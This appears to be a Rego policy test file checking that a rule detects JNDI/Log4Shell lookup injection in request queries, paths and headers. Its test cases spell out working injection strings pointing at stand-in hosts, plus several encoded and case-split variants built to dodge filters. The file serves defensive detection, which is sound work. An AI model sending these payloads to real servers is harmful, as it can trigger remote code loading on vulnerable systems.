package hasp.policies.network.lookup_injection_requested_test

import data.hasp.policies.network.lookup_injection_requested
import data.hasp.testing

found(subject) := violations if {
	violations := lookup_injection_requested.violations with input as subject
}

test_finds[why] if {
	some why, subject in {
		"in the query": testing.request({"query": {"q": ["${jndi:ldap://x.test/a}"]}}),
		"encoded": testing.request({"path": "/?q=%24%7Bjndi%3Aldap%3A//x.test%7D"}),
		"in pieces": testing.request({"query": {"q": ["${${lower:j}ndi:ldap://x.test/a}"]}}),
	}
	testing.paths(found(subject)) == {"/request/path"}
}

test_leaves_alone[why] if {
	some why, subject in {
		"a template": testing.request({"query": {"q": ["${name} costs ${price}"]}}),
		"a lookup of another sort": testing.request({"query": {"q": ["${name} of ldap"]}}),
		"the word alone": testing.request({"query": {"q": ["what is jndi:"]}}),
		"another": testing.request({}),
		"a setting": testing.request({"query": {"q": ["${env:HOME}"]}}),
	}
	found(subject) == set()
}

test_knows_the_word_in_pieces[text] if {
	some text in [
		"${jndi:ldap://x}",
		"${jndi%3aldap}",
		"${${upper:j}ndi:rmi://x}",
		"${${env:x:-j}ndi${env:x:-:}ldap",
		"${${sys:x:-j}ndi",
		"${${::-j}${::-n}dns:",
		"%24%7blower%3aj}ndi:ldap",
		"%24%7b::-j}ldap",
		"${lower:x}:j}",
	]
	count(found(testing.request({"query": {"q": [text]}}))) == 1
}

test_finds_it_in_headers if {
	violations := found(testing.request({"headers": {"user-agent": "${jndi:dns://x.test}"}}))
	testing.paths(violations) == {"/request/headers"}
	{violation.message | some violation in violations} == {"spiffe://cluster/ns/front/sa/web sent a lookup in the headers of GET /v1/items"}
}
